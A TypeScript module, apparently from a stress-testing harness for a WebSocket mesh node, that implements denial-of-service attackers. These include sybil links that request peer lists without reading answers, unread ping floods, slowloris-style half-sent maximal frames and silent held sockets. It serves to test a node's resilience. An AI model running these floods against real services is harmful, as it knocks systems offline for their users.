/** Attackers that hold what a node has a limited number of: memory, and places for connections. */

import { randomBytes } from 'node:crypto'
import { UPGRADE_REQUEST } from '../helpers/caller.ts'
import {
  type Attack,
  type Connections,
  EMPTY_HANDSHAKE,
  frameOf,
  keepConnected,
  type Target,
  upgradeWith,
} from './attacker.ts'

/** Pause before a closed connection is opened again, in ms. */
const PAUSE_MS = 100

const LINKS_REQUEST = frameOf(0x1, '{"type":"LINKS_REQUEST","data":{"have":0}}')

/** As long as a node's address can be, where nobody answers. */
const ADDRESS_LENGTH = 245

export interface Askers extends Pick<Connections, 'target' | 'from'> {
  readonly links: number
  /** Pause between two requests on a link, in ms. */
  readonly everyMs: number
}

/** Links under made-up identities, each of which asks for all links and never reads an answer. */
export function askWithoutReading({ links, everyMs, ...where }: Askers): Attack {
  return keepConnected({
    ...where,
    count: links,
    pauseMs: PAUSE_MS,
    onConnect: (socket, index) => {
      socket.pause()
      socket.write(upgradeWith(madeUpIdentity(index)))
      const address = addressOf(index)
      socket.write(frameOf(0x1, JSON.stringify({ type: 'HANDSHAKE', data: [address] })))
      const timer = setInterval(() => socket.write(LINKS_REQUEST), everyMs)
      socket.once('close', () => clearInterval(timer))
    },
  })
}

/** Links that ping and never read the pongs. */
export function pingWithoutReading({ links, everyMs, ...where }: Askers): Attack {
  const pings = Buffer.concat(Array<Buffer>(50).fill(frameOf(0x9, 'x'.repeat(125))))
  return keepConnected({
    ...where,
    count: links,
    pauseMs: PAUSE_MS,
    onConnect: (socket) => {
      socket.pause()
      socket.write(UPGRADE_REQUEST)
      socket.write(EMPTY_HANDSHAKE)
      const timer = setInterval(() => socket.write(pings), everyMs)
      socket.once('close', () => clearInterval(timer))
    },
  })
}

export interface HalfFrames extends Pick<Connections, 'target' | 'from'> {
  readonly links: number
}

/** Links each of which sends all but the end of a frame of the most bytes. */
export function sendHalfFrames({ links, ...where }: HalfFrames): Attack {
  const frame = frameOf(0x1, 'x'.repeat(256 * 1024))
  return keepConnected({
    ...where,
    count: links,
    pauseMs: PAUSE_MS,
    onConnect: (socket, index) => {
      socket.resume()
      socket.write(upgradeWith(madeUpIdentity(index)))
      socket.write(frame.subarray(0, -1))
    },
  })
}

export interface SilentSockets {
  readonly target: Target
  readonly count: number
  readonly from: readonly string[]
}

/** Connections that never send a byte. */
export function holdSilently({ target, count, from }: SilentSockets): Attack {
  return keepConnected({ target, count, from, pauseMs: PAUSE_MS, onConnect: () => {} })
}

function madeUpIdentity(index: number): Readonly<Record<string, string>> {
  return {
    'Mesh-Version': '1',
    'Mesh-Name': 'default',
    'Mesh-Id': randomBytes(16).toString('hex'),
    'Mesh-Address': addressOf(index),
  }
}

/** On an IP of the documentation (RFC 5737), so nobody answers. */
function addressOf(index: number): string {
  return `ws://198.51.100.${index % 256}:${1_024 + Math.floor(index / 256)}/`.padEnd(
    ADDRESS_LENGTH,
    'x',
  )
}
